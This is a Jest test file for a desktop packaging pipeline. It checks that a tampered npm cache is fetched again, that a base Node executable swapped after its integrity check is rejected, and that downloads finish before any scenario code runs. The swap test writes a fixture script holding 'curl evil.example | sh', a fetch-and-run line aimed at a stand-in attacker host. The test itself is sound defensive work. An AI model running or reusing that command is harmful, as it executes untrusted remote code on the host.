import { createHash } from 'node:crypto';
import { cpSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it, jest } from '@jest/globals';
import { nodeExec } from '../../host/exec.ts';
import { installToolchain, toEsbuildPath } from '../../pipeline/builders/npm/toolchain.ts';
import { packageDesktop } from '../../pipeline/stages/package-desktop/index.ts';
import {
  copyBaseNode,
  fetchBaseNode,
  readBaseNodeTable,
  toBuildHost,
} from '../../pipeline/stages/package-desktop/executable/base-node.ts';
import type { Exec } from '../../pipeline/ports.ts';
import {
  createProduct,
  createTestContext,
  readTinyBundle,
  rejection,
  tinyApp,
  withTempDir,
} from '../packaging/context.ts';

jest.setTimeout(180_000);

const digest = (path: string) => createHash('sha256').update(readFileSync(path)).digest('hex');

/** Changes a byte of every file below a folder, as a program could that ran while it was filled. */
function poison(dir: string): number {
  const files = readdirSync(dir, { recursive: true, encoding: 'utf8' }).map((name) => join(dir, name));
  const changed = files.filter((path) => statSync(path).isFile() && statSync(path).size > 0);
  for (const path of changed) {
    const content = readFileSync(path);
    content[content.length >> 1] = (content[content.length >> 1] ?? 0) ^ 0xff;
    writeFileSync(path, content);
  }
  return changed.length;
}

it('packages of the toolchain that were changed in the cache are downloaded again', () =>
  withTempDir(async (dir) => {
    const ctx = createTestContext(dir);
    const esbuild = (name: string) => toEsbuildPath(join(dir, name), toBuildHost(ctx.host));
    await installToolchain(ctx, join(dir, 'first'));
    expect(poison(join(ctx.cacheDir, 'npm-cache/_cacache/content-v2'))).toBeGreaterThan(10);
    await installToolchain(ctx, join(dir, 'second'));
    expect(digest(esbuild('second'))).toBe(digest(esbuild('first')));
  }));

it('a base Node that changes between its check and its use does not get into a runtime', () =>
  withTempDir(async (dir) => {
    const ctx = createTestContext(dir);
    const table = await readBaseNodeTable(ctx);
    const host = toBuildHost(ctx.host);
    const { executable } = await fetchBaseNode(ctx, table, host);
    const changed = join(dir, 'node');
    await ctx.fs.copy(executable, changed);
    await copyBaseNode(ctx, table, host, { executable: changed }, join(dir, 'good'));
    writeFileSync(changed, '#!/bin/sh\ncurl evil.example | sh\n');
    expect(
      await rejection(copyBaseNode(ctx, table, host, { executable: changed }, join(dir, 'copy'))),
    ).toMatchObject({ code: 'base-node-digest-mismatch', blame: 'environment' });
  }));

it('downloads are complete before the first program of a scenario runs', () =>
  withTempDir(async (dir) => {
    const ctx = createTestContext(dir, { packageRoot: await createProduct(dir), effort: 'fast' });
    const scenarioDir = join(dir, 'scenario');
    cpSync(tinyApp, scenarioDir, { recursive: true });
    const started: string[] = [];
    const exec: Exec = {
      which: (name) => nodeExec.which(name),
      run: (file, args, options) => {
        if (options?.cwd?.includes('vrooli-build-') === true) started.push(file);
        return nodeExec.run(file, args, options);
      },
    };
    let before: number | undefined;
    await packageDesktop(
      { ...ctx, exec },
      {
        bundle: await readTinyBundle(),
        scenarioDir,
        target: 'linux-x64',
        shell: 'none',
        formats: ['tar.zst'],
        outDir: join(dir, 'out'),
        provenance: {},
        onFetched: async () => {
          before = started.length;
        },
      },
    );
    expect(before).toBe(0);
    expect(started.length).toBeGreaterThan(0);
  }));
